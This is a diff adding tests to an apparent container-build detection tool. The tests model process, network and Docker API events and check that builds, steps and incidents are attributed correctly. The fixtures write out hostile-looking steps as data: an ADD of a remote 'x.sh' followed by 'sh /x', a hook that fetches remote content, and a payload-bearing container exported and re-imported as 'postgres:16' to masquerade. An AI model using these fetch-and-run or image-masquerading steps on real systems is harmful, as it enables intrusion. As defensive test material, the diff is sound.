@@ -4,6 +4,7 @@ import { fold, type Told } from './fixtures/fold.js';
 import { begin, id64, image, Story, second } from './fixtures/host.js';
 import * as imported from './fixtures/imported.js';
 import { sorted } from './fixtures/stories.js';
+import { objectOf } from './json.js';
 
 const tell = (story: Story): Told => fold(story, { rows: sorted(story), until: 900 });
 
@@ -95,6 +96,53 @@ describe('builders that are seen by their processes alone', () => {
     expect(stepsOf(told, build)).toEqual([imported.payload]);
   });
 
+  it('what buildah fetched into a container by hand is a step, with its connection', () => {
+    const told = tell(imported.fetchedByHand());
+    const build = only(told.builds.values());
+    expect([...told.steps.values()]).toMatchObject([
+      { Instruction: 'ADD', Command: 'http://203.0.113.9:8000/x.sh /x' },
+      { Instruction: 'RUN', Command: 'sh /x', Connections: [] },
+    ]);
+    expect(build.RemoteAddresses).toMatchObject([{ RemoteIP: '203.0.113.9', FileName: 'buildah' }]);
+    const evidence = only(told.incidents.values()).Evidence as { Id: string; Weight: number }[];
+    expect(evidence).toContainEqual(
+      expect.objectContaining({ Id: 'download-executed', Weight: 3 }),
+    );
+  });
+
+  it('what a builder without a daemon connects to for itself is its build’s, and no daemon’s is', () => {
+    const story = new Story();
+    const podman = story.exec(1, story.bash, [
+      'podman',
+      'build',
+      '-f',
+      'http://203.0.113.9/C',
+      '.',
+    ]);
+    const other = story.exec(1, story.bash, ['podman', 'build', '.'], { cwd: '/srv/other' });
+    story.connect(1.2, podman, '203.0.113.9', 80);
+    story.connect(1.3, story.dockerd, '198.51.100.7', 443);
+    for (const client of [podman, other]) story.exit(2, client);
+    const [one, two] = [...tell(story).builds.values()].map(({ AdditionalFields }) =>
+      objectOf(AdditionalFields ?? null),
+    );
+    expect(one?.['DaemonConnections']).toMatchObject([{ RemoteIP: '203.0.113.9' }]);
+    expect(two?.['DaemonConnections']).toEqual([]);
+  });
+
+  it('a context that docker’s client fetches for the classic builder is the build’s', () => {
+    const story = new Story();
+    const client = story.exec(1, story.bash, ['docker', 'build', '-t', 'x', 'git://203.0.113.9/r']);
+    story.socket(1.1, client);
+    const git = story.exec(1.2, client, ['git', 'fetch', 'origin', 'main']);
+    story.connect(1.3, git, '203.0.113.9', 9418);
+    story.connect(1.4, client, '203.0.113.77', 2375);
+    story.exit(3, client);
+    expect(objectOf(only(tell(story).builds.values()).AdditionalFields ?? null)).toMatchObject({
+      DaemonConnections: [{ RemoteIP: '203.0.113.9', RemotePort: 9418, FileName: 'git' }],
+    });
+  });
+
   it('docker in docker is no way to the host', () => {
     const told = tell(imported.dockerInDocker());
     const build = only(told.builds.values());
@@ -108,6 +156,20 @@ describe('builders that are seen by their processes alone', () => {
     for (const line of ['npm run build -t x', 'go build -t x ./cmd', 'make build', './gen build .'])
       story.exec(1, story.bash, line.split(' '));
     expect(tell(story).builds.size).toBe(0);
+  });
+
+  it('what a program of another trade starts, which is told to build with a tag, is no step', () => {
+    const story = new Story();
+    // Somebody else connects: so connections are seen, and it made none.
+    story.socket(0, story.bash);
+    const pack = story.exec(1, story.bash, ['/usr/local/bin/pack', 'build', '-t', 'shop', '.']);
+    const hook = story.exec(2, pack, ['bash', 'hook.sh']);
+    imported.fetch(story, 2.2, hook);
+    story.exit(3, hook);
+    story.exit(4, pack);
+    const told = tell(story);
+    expect(told.builds.size).toBe(0);
+    expect(told.steps.size).toBe(0);
   });
 
   it('a later container is not a build’s, though its end was never seen', () => {
@@ -132,6 +194,31 @@ describe('images made without a build', () => {
     expect(stepsOf(told, build)).toContain(imported.payload);
     expect([...told.steps.values()].map(({ Instruction }) => Instruction)).toContain('COPY');
     expect(only(told.incidents.values()).Title).toContain('committed');
+  });
+
+  it('are imported from an exported container, with what was done in it', () => {
+    const story = new Story();
+    const id = id64(60);
+    const about = { ImageReference: 'alpine', ImageId: image(1), ContainerName: 'w' };
+    story.container(1, 'ContainerCreated', id, about);
+    story.container(1.1, 'ContainerStarted', id, about);
+    const shell = story.exec(1.2, story.dockerd, ['sh', '-c', imported.payload], { container: id });
+    imported.fetch(story, 1.4, shell, id);
+    const out = story.exec(3, story.bash, ['docker', 'export', 'w']);
+    const into = story.exec(3, story.bash, ['docker', 'import', '-', 'postgres:16']);
+    story.request(3.1, 'GET', '/containers/w/export', {}, { ClientProcessId: out.pid });
+    const query = { fromSrc: ['-'], repo: ['postgres'], tag: ['16'] };
+    story.request(3.2, 'POST', '/images/create', query, { ClientProcessId: into.pid });
+    const made = { ImageReferences: ['postgres:16'], ImageCreationTime: begin + 3.7 * second };
+    story.image(3.8, 'ImageImported', image(9), made);
+    for (const client of [out, into]) story.exit(4, client);
+    const told = tell(story);
+    const build = only(told.builds.values());
+    expect(build).toMatchObject({ Method: 'import', ImageId: image(9) });
+    expect(stepsOf(told, build)).toEqual([imported.payload]);
+    expect(only(told.incidents.values()).Techniques).toEqual(
+      expect.arrayContaining(['T1105', 'T1036.005']),
+    );
   });
 
   it('are provisioned by Packer below high', () => {
